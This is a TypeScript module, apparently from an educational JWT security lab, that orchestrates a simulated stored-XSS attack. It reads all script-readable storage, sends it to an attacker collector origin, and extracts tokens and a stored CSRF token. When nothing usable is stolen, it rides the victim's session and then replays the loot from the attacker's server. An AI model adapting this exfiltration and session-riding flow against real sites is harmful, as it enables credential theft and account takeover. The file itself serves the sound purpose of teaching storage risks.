import type { CredentialMode } from '@jwt-lab/shared';
import type { LabApi, LabResult, Loot, Replay } from './lab-api';
import { describePath, findTokens, readEverythingAScriptCan, rideTheSession, type FoundToken, type SessionRide } from './xss-payload';

/** One run of the payload, as the lab shows it. */
export interface XssOutcome {
  /** The storage mode the page was in when the payload ran. */
  mode: CredentialMode;
  attacker: string;
  /** What the collector received, from its own answer: exactly what left the page. */
  loot: Loot;
  tokens: FoundToken[];
  /** Where the CSRF token of cookie mode was found, if it was. */
  csrfTokenAt: string | null;
  /** Only when nothing usable was stolen: the script then acts from inside the page instead. */
  ride: { result: SessionRide; forwarded: LabResult<Loot> } | null;
  replay: LabResult<Replay>;
}

/**
 * What a stored XSS would do here: take everything readable, send it home, and, finding no token,
 * ride the session from inside the page. Then the attacker replays what it got from its own server.
 */
export async function runXssPayload(api: LabApi, mode: CredentialMode): Promise<LabResult<XssOutcome>> {
  const attacker = await api.attackerOrigin();
  if (!attacker.ok) return attacker;
  const sent = await api.sendHome(attacker.value, 'storage', readEverythingAScriptCan());
  if (!sent.ok) return sent;
  const loot = sent.value;
  const tokens = findTokens(loot.data);
  let ride: XssOutcome['ride'] = null;
  if (tokens.length === 0) {
    const result = await rideTheSession();
    ride = { result, forwarded: await api.sendHome(attacker.value, 'session-ride', result) };
  }
  const replay = await api.replay(attacker.value, loot.id);
  return { ok: true, value: { mode, attacker: attacker.value, loot, tokens, csrfTokenAt: findCsrfToken(loot.data), ride, replay } };
}

/** Cookie mode keeps its CSRF token in a JSON record in storage; an attacker would find it too. */
function findCsrfToken(data: Record<string, unknown>): string | null {
  for (const area of ['localStorage', 'sessionStorage']) {
    const entries = data[area];
    if (typeof entries !== 'object' || entries === null) continue;
    for (const [key, value] of Object.entries(entries)) {
      if (typeof value === 'string' && /"csrfToken"\s*:\s*"[^"]+"/.test(value)) return describePath([area, key]);
    }
  }
  return null;
}
